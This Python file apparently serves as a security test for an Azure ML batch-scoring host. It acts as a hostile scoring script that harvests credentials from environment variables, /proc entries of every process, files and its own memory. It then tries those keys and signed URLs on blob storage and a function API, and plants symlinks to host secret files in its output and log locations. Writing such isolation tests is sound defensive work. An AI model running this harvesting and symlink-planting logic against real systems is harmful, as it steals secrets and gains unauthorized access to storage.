"""Hunts for credentials the way a hostile scoring script would, and tries what it finds.

It looks in its environment, in /proc/<pid>/environ and /proc/<pid>/cmdline of every
process, in the files under HUNT_PATHS (os.pathsep-separated) and in its own memory (the
read URLs of its inputs); it tries every account key it finds (and the storage emulator's
published key) on the account's blob endpoint, every signed URL on another blob, on a
listing and on a write, every other key-like value on the devhost API. It also plants
links to host files in AZUREML_BI_OUTPUT_PATH and in place of its own attempt log, in case
the host uploads what they point at. run() returns one JSON report per input file.
"""

import base64
import gc
import json
import os
import re
import urllib.error
import urllib.parse
import urllib.request

TIMEOUT = 5
READ_LIMIT = 256 * 1024
FILES_LIMIT = 2000
PUBLISHED_KEY = (
    "Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw==")
ACCOUNT_KEY = re.compile(r"AccountKey=([A-Za-z0-9+/=]{20,})")
BASE64_KEY = re.compile(r"(?<![A-Za-z0-9+/])[A-Za-z0-9+/]{86}==")
SIGNED_URL = re.compile(r"https?://[^\s\"'<>]+\?[^\s\"'<>]*sig=[^\s\"'<>]+")
KEY_VALUE = re.compile(r"\"(?:key|value|masterKey|master_key|function_key)\"\s*:\s*"
                       r"\"([A-Za-z0-9_\-=+/]{20,})\"")
SECRET_NAMES = re.compile(r"KEY|SECRET|TOKEN|PASSWORD|CONNECTION|IDENTITY|MSI_|"
                          r"AzureWebJobsStorage", re.IGNORECASE)


def init():
    pass


def run(mini_batch):
    report = hunt()
    return [json.dumps(report, sort_keys=True) for _ in mini_batch]


def hunt():
    found = {"account_keys": {PUBLISHED_KEY: "guess: the emulator's published key"},
             "signed_urls": {}, "other_keys": {}}
    report = {"user": os.environ.get("USER"), "uid": os.getuid(),
              "secret_like_variables": sorted(n for n in os.environ if SECRET_NAMES.search(n)
                                              and not n.startswith("HUNT_")),
              "environ_read": [], "cmdline_read": 0, "files_read": [], "files_denied": []}
    scan("environment", "\n".join(f"{k}={v}" for k, v in os.environ.items()
                                  if not k.startswith("HUNT_")), found)
    for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
        for name in ("environ", "cmdline"):
            text = read(f"/proc/{pid}/{name}")
            if text is None:
                continue
            if name == "environ" and pid != str(os.getpid()):
                report["environ_read"].append(int(pid))
            report["cmdline_read"] += name == "cmdline"
            scan(f"/proc/{pid}/{name}", text.replace("\0", "\n"), found)
    for root in filter(None, os.environ.get("HUNT_PATHS", "").split(os.pathsep)):
        for path in walk(root):
            text = read(path)
            (report["files_read"] if text is not None else report["files_denied"]).append(path)
            if text is not None:
                scan(path, text, found)
    for obj in gc.get_objects():  # the worker's own input grants, among others
        if type(obj).__name__ == "InputDownload":
            found["signed_urls"][obj.url] = "memory"
    report["tried"], report["usable"] = try_all(found)
    report["planted"] = plant_links()
    return report


def walk(root):
    if not os.path.isdir(root):  # a file, or a folder it cannot see into
        yield root
        return
    count = 0
    for folder, _, names in os.walk(root, onerror=lambda error: None):
        for name in names:
            count += 1
            if count > FILES_LIMIT:
                return
            yield os.path.join(folder, name)


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(READ_LIMIT).decode("utf-8", errors="replace")
    except OSError:
        return None


def scan(source, text, found):
    for key in ACCOUNT_KEY.findall(text) + BASE64_KEY.findall(text):
        found["account_keys"].setdefault(key, source)
    for url in SIGNED_URL.findall(text):
        found["signed_urls"].setdefault(url, source)
    for key in KEY_VALUE.findall(text):
        found["other_keys"].setdefault(key, source)


def try_all(found):
    tried, usable = [], []

    def attempt(kind, source, works):
        tried.append({"kind": kind, "source": source})
        if works:
            usable.append({"kind": kind, "source": source})

    endpoint = os.environ["HUNT_BLOB_ENDPOINT"].rstrip("/")
    account = os.environ["HUNT_ACCOUNT"]
    for key, source in found["account_keys"].items():
        attempt("account key", source, lists_containers(endpoint, account, key))
    other_blob = os.environ["HUNT_OTHER_BLOB"]
    for url, source in found["signed_urls"].items():
        parts = urllib.parse.urlsplit(url)
        base = f"{parts.scheme}://{parts.netloc}"
        container = parts.path.split("/")[2] if parts.path.count("/") >= 3 else ""
        tried.append({"kind": "signed url of its own input", "source": source,
                      "reads": status(url) == 200})
        attempt("signed url on another blob", source,
                status(f"{base}/{account}/{other_blob}?{parts.query}") == 200)
        attempt("signed url listing its container", source,
                status(f"{base}/{account}/{container}?restype=container&comp=list&"
                       f"{parts.query}") == 200)
        attempt("signed url writing a blob", source,
                status(f"{base}/{account}/{container}/hunted.txt?{parts.query}", "PUT",
                       {"x-ms-blob-type": "BlockBlob"}) in (200, 201))
    devhost = os.environ["HUNT_DEVHOST_URL"].rstrip("/")
    for key, source in {**found["other_keys"], **found["account_keys"]}.items():
        attempt("devhost key", source,
                status(f"{devhost}/api/endpoints", headers={"x-functions-key": key}) == 200)
    return tried, usable


def lists_containers(endpoint, account, key):
    from azure.storage.blob import BlobServiceClient

    try:
        base64.b64decode(key, validate=True)
        client = BlobServiceClient(endpoint, credential={"account_name": account,
                                                         "account_key": key},
                                   retry_total=0, connection_timeout=TIMEOUT)
        next(iter(client.list_containers()), None)
        return True
    except Exception:  # noqa: BLE001 - refused, or not a key at all
        return False


def status(url, method="GET", headers=None):
    request = urllib.request.Request(url, method=method, headers=headers or {},
                                     data=b"x" if method == "PUT" else None)
    try:
        with urllib.request.urlopen(request, timeout=TIMEOUT) as response:
            return response.status
    except urllib.error.HTTPError as error:
        return error.code
    except (OSError, ValueError):
        return None


def plant_links():
    """Links in the output folder and in place of this attempt's log, to host files."""
    targets = [f"/proc/{os.getppid()}/environ",
               *filter(None, os.environ.get("HUNT_PATHS", "").split(os.pathsep))]
    planted = []
    output = os.environ["AZUREML_BI_OUTPUT_PATH"]
    with open(os.path.join(output, "hunt-notes.txt"), "w") as file:
        file.write("an ordinary output file\n")
    for number, target in enumerate(targets):
        link = os.path.join(output, f"hunt-link-{number}")
        try:
            os.symlink(target, link)
            planted.append(link)
        except OSError:
            pass
    log = os.readlink("/proc/self/fd/1")
    try:
        os.unlink(log)
        os.symlink(targets[0], log)
        planted.append(log)
    except OSError:
        pass
    return planted
